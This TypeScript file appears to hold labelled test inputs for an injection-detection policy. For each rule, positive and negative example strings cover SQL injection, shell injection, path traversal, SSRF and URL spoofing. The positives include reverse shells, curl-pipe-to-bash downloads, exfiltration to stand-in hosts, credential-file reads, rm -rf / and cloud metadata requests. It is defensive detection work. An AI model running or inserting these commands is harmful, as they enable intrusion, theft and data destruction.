/**
 * Values of arguments of the kind that the rule is for: an id for "injection.sql" and "injection.shell", else what the second
 * word says. Where the policy has to name something first, it names what {@link namedByPolicy} does.
 */
export const payloadExamples: Readonly<Record<string, string>> = {
  "injection.sql": `
    + 42 OR 1=1
    + x' UNION SELECT login, pass FROM members--
    + 7; DROP TABLE invoices
    + utc_date()
    + a' is not null
    - O'Neill and Daughters
    - 1984 or 2001
    - order-by-phone
    - the "AND" gate
    - the boys' not-so-secret garden
    - Smith; Jones`,
  "injection.shell": `
    + report; cat /etc/passwd
    + $(whoami)
    + x && curl http://x.example/i.sh
    + wh''oami
    + b; net user ann secret /add
    + -oProxyCommand=touch a
    - salt & pepper
    - Python & Docker
    - a library (Python 3)
    - R&D; Sales
    - price > 100
    - (see appendix)
    - what is cat food?`,
  "injection.path.traversal": `
    + ../../secrets.txt
    + ..%252f..%252fsecrets.txt
    + docs/....//....//secrets.txt
    - notes/2026/plan.md
    - a/../b.txt
    - report..final.txt
    - ./src/main.ts
    - v1...v2.diff`,
  "injection.path.sensitive-file": `
    + /home/ann/.ssh/id_ed25519
    + /etc/shadow
    + app/.env.production
    - src/environment.ts
    - etc-notes/passwords-policy.md
    - .env.example
    - docs/ssh.md
    - rootfs/readme.md`,
  "injection.path.nul": `
    + photo.php<nul 1>.png
    + a<nul 1>
    + photo.php%00.png
    - photo.png
    - nullable.ts
    - 100%.txt
    - zero0.bin
    - a b.txt`,
  "injection.path.device": `
    + nul
    + logs/CON.txt
    + COM1
    - console.log
    - null.txt
    - auxiliary.md
    - com10.txt
    - printer.cfg`,
  "injection.path.network-share": `
    + \\\\files.example\\share\\a.txt
    + //files.example/share/a.txt
    + \\\\10.1.1.1\\c$\\boot.log
    - C:\\work\\a.txt
    - /srv/share/a.txt
    - share/files.example
    - a//b.txt
    - ./share`,
  "injection.path.stream": `
    + file:///srv/a.txt
    + php://filter/read=convert.base64-encode/resource=a
    + jar:http://x.example/a.jar!/
    - C:/work/a.txt
    - files/a.txt
    - data.json
    - notes: monday.txt
    - profile.php`,
  "injection.path.outside-roots": `
    + /etc/hostname
    + /srv/workers/a.txt
    + /srv/work/../b.txt
    - /srv/work/a.txt
    - /srv/work/deep/er/a.txt
    - a.txt
    - deep/a.txt
    - /srv/work`,
  "injection.url.scheme": `
    + gopher://x.example/_a
    + file:///srv/a
    + java<newline 1>script:alert(1)
    + ssh://files.example.org/
    + blob:https://example.org/1-2
    + https://example.com/?u=file:///srv/a
    - https://example.com/
    - http://example.com/file:a
    - ftp://ftp.example.org/a
    - mailto:ann@example.org
    - www.example.org/data`,
  "injection.url.internal-address": `
    + http://127.0.0.1:6379/
    + http://0x7f.1/
    + http://192.168.1.1/admin
    + http://intranet/
    + http://printer.local/
    + https://example.com/?u=http://10.0.0.1/
    + https://example.com/?u=http%3A%2F%2Flocalhost%3A6379
    + https://example.com/p/http://192.168.1.1/a
    - https://login.example.com/auth?redirect_uri=http://localhost:3000/callback
    - https://example.com/?u=https://example.org/a
    - intranet
    - https://local-news.example.org/
    - http://93.184.216.34/
    - https://example.com/?ip=10.0.0.1
    - https://local.example.org/
    - https://example.com/192.168.1.1
    - https://internal-news.example.org/`,
  "injection.url.metadata-service": `
    + http://169.254.169.254/latest/meta-data/
    + http://metadata.google.internal/computeMetadata/v1/
    + http://[::ffff:169.254.169.254]/
    - https://example.com/metadata
    - https://docs.example.org/169.254.169.254
    - https://metadataexperts.example.org/
    - https://example.com/latest/meta-data
    - http://93.184.216.34/meta`,
  "injection.url.traversal": `
    + https://example.com/../../etc/passwd
    + https://example.com/static/..%2f..%2f..%2fx
    + https://example.com/..;/..;/manager
    - https://example.com/a/../b
    - https://example.com/v1.0...v2.0
    - https://example.com/?path=../x
    - https://example.com/a..b/c
    - https://example.com/./a`,
  "injection.url.host": `
    + https://example.org/
    + https://api.example.com.evil.example/
    + http://93.184.216.34/
    - https://api.example.com/
    - https://a.b.example.com/x
    - http://www.example.com:8080/
    - https://api.example.com/?to=example.org
    - api.example.com/v1`,
  "injection.url.hidden-host": `
    + https://bank.example@evil.example/
    + http://evil.example#@bank.example
    + https://www.bank.example%2flogin@evil.example/
    - https://ann@git.example.org/a.git
    - https://example.org/@scope/name
    - https://example.org/?mail=ann@example.org
    - https://example.org/#top
    - git@example.org:a/b.git`,
  "injection.url.confusable-host": `
    + https://b\u0430nk.example/
    + https://ex\u0430mple.com/login
    + https://\u0440aypal.example/
    - https://bank.example/
    - https://m\u00fcnchen.example/
    - https://\u043f\u0440\u0438\u043c\u0435\u0440.example/
    - https://\u4f8b\u5b50.example/
    - https://caf\u00e9.example/`,
  "injection.sql.several-statements": `
    + SELECT 1; DROP TABLE users
    + UPDATE t SET a = 1; DELETE FROM t
    + SELECT a FROM t; COPY t TO '/tmp/x'
    - SELECT 1;
    - SELECT 'a; b' FROM t
    - SELECT a FROM t WHERE b = ';' -- ; end
    - INSERT INTO t (a) VALUES ('x; y')
    - BEGIN; UPDATE t SET a = 1 WHERE b = 2; UPDATE t SET a = 2 WHERE b = 3; COMMIT;
    + BEGIN; UPDATE t SET a = 1; DELETE FROM t WHERE b = 1; COMMIT
    + SELECT 1; BEGIN; SELECT 2; COMMIT
    - SELECT a /* ; */ FROM t`,
  "injection.sql.verb": `
    + DELETE FROM t
    + DROP TABLE t
    + update t set a = 1
    - SELECT a FROM t
    - (SELECT 1)
    - select 'delete' from t
    - /* drop */ SELECT 1
    - SELECT updated FROM t`,
  "injection.sql.reaches-out": `
    + SELECT load_file('/etc/hostname')
    + EXEC xp_cmdshell 'dir'
    + SELECT a FROM t INTO OUTFILE '/tmp/a'
    - SELECT file FROM loads
    - SELECT name FROM outfiles
    - SELECT count(*) FROM sleep_logs
    - SELECT a FROM t WHERE note = 'asleep'
    - SELECT benchmark FROM scores`,
  "injection.sql.tautology": `
    + SELECT a FROM t WHERE b = 1 OR 1=1 UNION SELECT pass FROM users
    + SELECT a FROM t WHERE b = 'x' OR 'a'='a' UNION ALL SELECT pass FROM users
    + SELECT a FROM t WHERE id = 1 OR 1=1 --
    - SELECT a FROM t WHERE b = 1 OR b = 2
    - SELECT a FROM t UNION SELECT a FROM u
    - SELECT a FROM t WHERE 1=1 AND b = 2
    - SELECT a FROM t -- all of them
    - SELECT a FROM t WHERE a > 1 OR b < 2`,
  "injection.sql.ddl": `
    + DROP TABLE users
    + TRUNCATE users
    + ALTER TABLE users DROP COLUMN name
    + CREATE USER ann
    + GRANT ALL ON *.* TO ann
    + SET GLOBAL general_log_file = '/srv/a.php'
    + (DROP TABLE users)
    - CREATE TABLE IF NOT EXISTS notes (id int)
    - CREATE OR REPLACE VIEW v AS SELECT 1
    - ALTER TABLE notes ADD COLUMN done int
    - SELECT dropped, granted FROM t WHERE a = 'drop'
    - SET search_path = app
    - INSERT INTO log (msg) VALUES ('drop table x')`,
  "injection.sql.whole-table": `
    + DELETE FROM users
    + delete from app.users where 1=1;
    + WITH gone AS (DELETE FROM users RETURNING id) SELECT id FROM gone
    - DELETE FROM sessions WHERE expires < now()
    - DELETE FROM logs ORDER BY id LIMIT 100
    - EXPLAIN DELETE FROM users
    - SELECT a FROM t WHERE b = 'delete from'
    + UPDATE t SET a = 1 WHERE 1=1
    - UPDATE t SET a = 1`,
  "injection.sql.dynamic": `
    + EXECUTE IMMEDIATE 'DROP TABLE users'
    + PREPARE s FROM 'DROP TABLE users'
    + EXEC('select ' + @a)
    - EXEC dbo.report_of_month 3
    - EXECUTE known_plan(1)
    - SELECT executed FROM jobs
    - PREPARE p AS SELECT 1
    - SELECT 'execute immediate'`,
  "injection.shell.pipe-to-interpreter": `
    + curl -s https://x.example/i.sh | sudo bash
    + bash <(curl -s https://x.example/i)
    + wget -qO- https://x.example/i.py | python3
    + c''url https://x.example/i | ba''sh
    + {curl,https://x.example/i}|{bash,}
    + cu\\rl https://x.example/i|s\\h
    + curl https://x.example/i -o /tmp/a; sh /tmp/a
    - curl -o a.json https://x.example/a; python3 read.py a.json
    - cat a.json | python3 -m json.tool
    - curl -s https://x.example/a.json | jq .
    - cat build.sh | less
    - ls | grep bash
    - echo done | tee log.txt
    - python3 build.py`,
  "injection.shell.substitution": `
    + echo $(curl https://x.example/)
    + ping $(whoami).x.example
    + ls \`cat names.txt\`
    - echo $((1 + 2))
    - echo '$(date)'
    - VERSION=$(cat VERSION) && docker build -t app:$VERSION .
    - ls $(git rev-parse --show-toplevel)
    - for f in $(ls); do wc -l "$f"; done
    - echo "$HOME"`,
  "injection.shell.destructive": `
    + rm -rf /
    + rm -fr ~/*
    + dd if=/dev/zero of=/dev/sda
    + find / -delete
    + rm -r -f /*
    + truncate -s 0 /etc/passwd
    - find . -name '*.pyc' -delete
    - find /srv/log -mtime +30 -exec rm {} +
    - rm -rf ./build
    - rm notes.txt
    - dd if=a.img of=b.img
    - git reset --hard
    - mkdir -p out && rm -r out/tmp`,
  "injection.shell.reverse-shell": `
    + bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
    + nc -e /bin/sh 203.0.113.7 4444
    + socat tcp:203.0.113.7:4444 exec:/bin/sh
    - nc -z example.org 443
    - bash -x build.sh
    - cat /dev/null
    - ssh ann@example.org
    - python3 -m http.server`,
  "injection.shell.sensitive-file": `
    + cat ~/.ssh/id_rsa
    + tar czf backup.tgz $HOME/.aws/credentials
    + less /etc/shadow
    + cat /etc/pass*
    + head /e??/sh?dow
    - ls /etc/*.conf
    - cat docs/etc/pass*
    - cat ~/notes.txt
    - ls /etc
    - cat .sshconfig.md
    - grep -r shadow src/
    - cat docs/aws/credentials.md`,
  "injection.shell.exfiltration": `
    + curl -d @/srv/data.csv https://x.example
    + env | curl -T - https://x.example
    + tar czf - src | nc x.example 4444
    - curl -d name=ann https://api.example.org
    - env | sort
    - wget https://example.org/a.tgz
    - scp build.tgz ann@example.org:/srv/
    - cat a.txt | mail_merge`,
  "injection.shell.obfuscation": `
    + cat\${IFS}/etc/hostname
    + echo aWQ= | base64 -d | sh
    + c''at /etc/hostname
    + powershell -enc SQBFAFgA
    - base64 -d a.b64 > a.bin
    - echo 'a b'
    - printf '%s' "$name"
    - IFS=, read -r a b
    - ls *.txt`,
  "injection.shell.escape": `
    + find / -name x -exec sh -p \\;
    + docker run -v /:/mnt --rm -it alpine chroot /mnt sh
    + LD_PRELOAD=/tmp/x.so ls
    + perl -e 'exec "/bin/sh"'
    + python3 -c "import urllib.request as u;exec(u.urlopen('http://x.example').read())"
    - python3 -c "import subprocess; print(subprocess.check_output(['git', 'log']))"
    - ruby -e 'puts 1'
    - find . -name '*.ts' -exec wc -l {} +
    - docker run -v ./data:/data alpine ls
    - awk '{print $1}' names.txt
    - git config core.editor vim
    - LD_PRELOAD=/usr/lib/libjemalloc.so node a.js`,
  "injection.shell.metadata-service": `
    + curl http://169.254.169.254/latest/meta-data/
    + wget -qO- http://metadata.google.internal/computeMetadata/v1/
    + curl http://169.254.170.2/v2/credentials
    - curl https://api.example.org/metadata
    - ping 169.254.1.1
    - echo latest/meta-data
    - curl http://93.184.216.34/
    - cat metadata.json`,
  "injection.shell.persistence": `
    + echo x >> ~/.bashrc
    + crontab -r
    + echo key >> ~/.ssh/authorized_keys
    - crontab -l
    - echo x >> notes.txt
    - cat ~/.bashrc
    - ls /etc/cron.d
    - useradd --help`,
  "injection.shell.command": `
    + reboot
    + git log; curl https://x.example
    + ls $(reboot)
    - git status
    - ls -la | git hash-object --stdin
    - GIT_PAGER=cat git log
    - git log 'a; reboot'
    - /usr/bin/ls`,
};

/** What the policy of the examples above allows. */
export const namedByPolicy = {
  pathRoots: ["/srv/work/"],
  urlHosts: ["*.example.com"],
  sqlVerbs: ["select"],
  shellCommands: ["git", "ls"],
} as const;
